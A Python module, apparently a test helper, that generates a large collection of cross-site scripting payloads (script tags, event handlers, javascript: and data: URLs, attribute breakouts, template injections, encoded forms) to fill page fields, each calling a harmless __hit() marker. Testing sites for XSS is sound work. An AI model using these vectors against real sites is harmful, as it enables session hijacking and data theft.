"""Words that would run as a program wherever a page takes them for more than words."""

from itertools import cycle, islice, product

# What only a link can be put into.
LINK = "https://meet.example/#'onmouseover=__hit()//javascript:__hit()"
SHORT, ONE_LINE = 200, 500  # characters: a name, a title, a few words; a place
CALLS = ("__hit()", "top.__hit()", "self['__hit']()")
# {} is what would run.  Each way in is another: tags, handlers, addresses, breaking out of an
# attribute, of a script, of a comment, of a template; entities, and what parsers mend.
CARRIERS = (
    """
<script>{}</script>|<SCRIPT SRC=data:,{}></SCRIPT>|<script/x>{}</script>|<scr<script>ipt>{}</script>
<img src=x onerror={}>|<img/src/onerror={}>|<IMG SRC=x OnErRoR={}>|<img src=x:x onerror={} //
<svg onload={}>|<svg><script>{}</script>|<svg/onload={}>|<svg><animate onbegin={} attributeName=x>
<svg><a xlink:href="javascript:{}"><text y=9>x|<svg><use href="data:image/svg+xml,{}#x">
<body onload={}>|<body onpageshow={}>|<iframe srcdoc="<script>parent.{}</script>">
<iframe src="javascript:parent.{}">|<iframe onload={}>|<object data="javascript:{}">
<object data="data:text/html,<script>{}</script>">|<embed src="javascript:{}">
<a href="javascript:{}">x</a>|<a href="java&#9;script:{}">x</a>|<a href=" javascript:{}">x</a>
<a href="data:text/html,<script>{}</script>">x</a>|<form action="javascript:{}"><button>x
<button formaction="javascript:{}" form=x>x|<input autofocus onfocus={}>
<select onfocus={} autofocus>
<textarea autofocus onfocus={}>|<details open ontoggle={}>|<video><source onerror={}>
<video src=x onerror={}>|<audio src=x onerror={}>|<marquee onstart={}>|<div onmouseover={}>x</div>
<div style="animation:x" onanimationstart={}>|<style>@import 'javascript:{}';</style>
<link rel=stylesheet href="javascript:{}">|<link rel=import href="data:text/html,{}">
<meta http-equiv=refresh content="0;url=javascript:{}">|<base href="javascript:{}//">
<math><mtext><script>{}</script>|<math href="javascript:{}">x|<table background="javascript:{}">
"><script>{}</script>|'><img src=x onerror={}>|" onmouseover={} x="|' autofocus onfocus={} x='
`-{}-`|"-{}-"|'-{}-'|');{}//|";{}//|</script><script>{}</script>|</title><script>{}</script>
</textarea><script>{}</script>|</style><img src=x onerror={}>|--><script>{}</script>
]]><script>{}</script>|<!--<img src="--><img src=x onerror={}>
<noscript><p title="</noscript><img src=x onerror={}>">
<xmp><p title="</xmp><svg/onload={}>">|<template><script>{}</script></template>
<x onclick={}>x</x>|{{{{constructor.constructor('{}')()}}}}|${{{}}}|<%={}%>|#{{{}}}
[x](javascript:{})|![x](x" onerror="{})|&lt;script&gt;{}&lt;/script&gt;
&#60;img src=x onerror={}&#62;
\\u003cscript\\u003e{}\\u003c/script\\u003e|\\x3cimg src=x onerror={}\\x3e
%3Cscript%3E{}%3C/script%3E
javascript:{}|JaVaScRiPt:{}|data:text/html,<script>{}</script>|vbscript:{}
<portal src="javascript:{}">|<div id=x tabindex=1 onfocusin={}>x
<p popover onbeforetoggle={}>x</p>
""".strip()
    .replace("\n", "|")
    .split("|")
)
ATTACKS = tuple(carrier.format(call) for call, carrier in islice(product(CALLS, CARRIERS), 200))


class Attacks:
    """All of them in turn, as many as a field takes; for one line of words always the same."""

    def __init__(self) -> None:
        self._next = cycle(ATTACKS)
        self._kept: dict[tuple[str, int], str] = {}

    def instead_of(self, words: str, longest: int) -> str:
        """What is written where somebody would have written `words`: the same each time."""
        if words.startswith("https://"):
            return LINK
        if (words, longest) not in self._kept:
            said = self.line(longest) if longest <= SHORT else self.words(longest)
            self._kept[words, longest] = said.replace("\n", " ") if longest <= ONE_LINE else said
        return self._kept[words, longest]

    def words(self, longest: int) -> str:
        """As many as fit, one on each line."""
        lines: list[str] = []
        while True:
            more = next(self._next)
            if lines and len("\n".join([*lines, more])) > longest:
                return "\n".join(lines)
            lines.append(more[:longest])

    def line(self, longest: int) -> str:
        """One that fits whole."""
        return next(each for each in self._next if len(each) <= longest)
